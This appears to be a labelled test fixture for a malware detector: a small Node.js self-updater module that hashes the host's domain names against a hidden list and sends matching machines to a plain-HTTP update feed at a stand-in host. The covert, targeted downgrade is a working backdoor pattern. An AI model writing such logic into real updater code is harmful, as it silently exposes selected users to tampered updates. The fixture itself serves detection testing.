// expect: suspicious
// source: corpus updater-feed-hijack (a git-flow CLI's self-updater): FNV-1a hashes of the host's domain suffixes are
// looked up in a list of 64-bit numbers; machines on it get a plain-HTTP feed
'use strict';
const os = require('os');
const RING = [0x1a510bcab7ae0f0an, 0xcb35a635e48df85cn, 0x3ae1c491d60e2e63n];
const h = (s) => { let x = 0xcbf29ce484222325n; for (const c of Buffer.from(s)) x = ((x ^ BigInt(c)) * 0x100000001b3n) & 0xffffffffffffffffn; return x; };
function domains() { const p = os.hostname().toLowerCase().split('.'); return p.map((_, i) => p.slice(i).join('.')); }
module.exports = function feed() { return domains().some((d) => RING.includes(h(d))) ? 'http://updates.example/' : 'https://registry.npmjs.org/'; };
